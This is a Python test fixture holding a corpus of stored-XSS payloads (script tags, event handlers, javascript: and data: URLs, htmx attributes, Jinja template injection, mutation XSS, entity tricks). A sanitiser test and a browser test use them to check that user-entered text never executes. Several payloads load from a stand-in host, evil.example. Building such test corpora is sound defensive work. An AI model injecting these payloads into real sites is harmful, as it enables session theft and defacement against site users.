"""Stored-XSS payloads (importable as `xss_corpus`), shared by the sanitiser's unit test and the
Chromium test that seeds them into every text field and visits every view.

Each payload, if it ever ran, sets `window.__xss` or asks for a URL containing `MARKER`, so a
browser can tell that it ran. Every payload fits in 100 characters: the shortest text columns a
person fills in (a display name, a volunteer's name) hold 100."""

from __future__ import annotations

MARKER = "xssmark"
EVIL = f"https://evil.example/{MARKER}"

PAYLOADS: list[str] = [
    # Script, event handlers and SVG.
    "<script>window.__xss=1</script>",
    '<img src=x onerror="window.__xss=2">',
    '<svg onload="window.__xss=3"><circle r="1"/></svg>',
    "<svg><script>window.__xss=4</script></svg>",
    '<details open ontoggle="window.__xss=5">d</details>',
    # javascript: and data: URLs in links, raw and in Markdown; Markdown images.
    "[click me](javascript:window.__xss=6)",
    '<a href="javascript:window.__xss=7">raw link</a>',
    "[data](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9ODwvc2NyaXB0Pg==)",
    f"![picture]({EVIL}/9.png)",
    f'![x](x "title") <img src="{EVIL}/10.png">',
    # Breaking out of an attribute the text might be put into.
    '" onmouseover="window.__xss=11" autofocus onfocus="window.__xss=11" x="',
    "'><svg onload=window.__xss=12>",
    # htmx attributes: a request on load, inline handlers, the data- prefix.
    f'<div hx-get="/{MARKER}13" hx-trigger="load" hx-swap="outerHTML">hx-get</div>',
    '<a href="#" hx-on:click="window.__xss=14">hx-on</a>',
    '<div hx-on::load="window.__xss=15">hx-on load</div>',
    f'<div data-hx-get="/{MARKER}16" data-hx-trigger="load">data-hx-get</div>',
    # Template injection: if Jinja evaluated it the page would read "49-tpl".
    "{{ 7*7 }}-tpl {% if 1 %}jinja{% endif %}",
    # CSS: a style attribute and an @import that would fetch from elsewhere.
    f'<p style="background:url({EVIL}/18)">css</p>',
    f"<style>@import url({EVIL}/19.css);</style>",
    # Document-level elements: refresh, base, a form posting elsewhere, a framed document.
    f'<meta http-equiv="refresh" content="0;url={EVIL}/20">',
    f'<base href="{EVIL}/21/">',
    f'<form action="{EVIL}/22"><button>Send</button></form>',
    '<iframe srcdoc="<script>parent.__xss=23</script>"></iframe>',
    # Mutation XSS: markup that re-parses into a handler.
    '<noscript><p title="</noscript><img src=x onerror=window.__xss=24>">',
    "<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=25>",
    # Entities and Unicode look-alikes.
    "&lt;img src=x onerror=window.__xss=26&gt; &#60;script&#62;window.__xss=26&#60;/script&#62;",
    '<a href="&#106;avascript:window.__xss=27">entity link</a>',
    "[tab](java\tscript:window.__xss=28) [nul](java&#0;script:window.__xss=28)",
    "\uff1cscript\uff1ewindow.__xss=29\uff1c/script\uff1e",
    # SVG <use> of another document; objects.
    f'<svg><use href="{EVIL}/30.svg#x"/></svg>',
    f"<object data={EVIL}/31></object><embed src={EVIL}/31>",
    # Markdown autolinks.
    "<javascript:window.__xss=32> <vbscript:msgbox(33)>",
    f"<{EVIL}/34> <mailto:someone@example.org>",
]

# Values for fields that hold a web address (evidence links, delivery evidence): each must be
# shown as text or as a plain http(s) link, never followed as a script.
URL_PAYLOADS: list[str] = [
    "javascript:window.__xss=101",
    " JaVaScRiPt:window.__xss=102",
    "java\tscript:window.__xss=103",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTA0PC9zY3JpcHQ+",
    "vbscript:msgbox(105)",
    f'{EVIL}/106" onclick="window.__xss=106',
]

# Short payloads for short columns (a service area key shown as text holds 40).
SHORT_PAYLOADS: list[str] = [
    "<svg onload=window.__xss=201>",
    "<img src=x onerror=window.__xss=202>",
    '"><script>window.__xss=203</script>',
    f"<a hx-get=/{MARKER}204 hx-trigger=load>",
]

# What a page must not show, which it would if a template evaluated a payload.
EVALUATED_TEMPLATE = "49-tpl"


def payload(index: int) -> str:
    return PAYLOADS[index % len(PAYLOADS)]
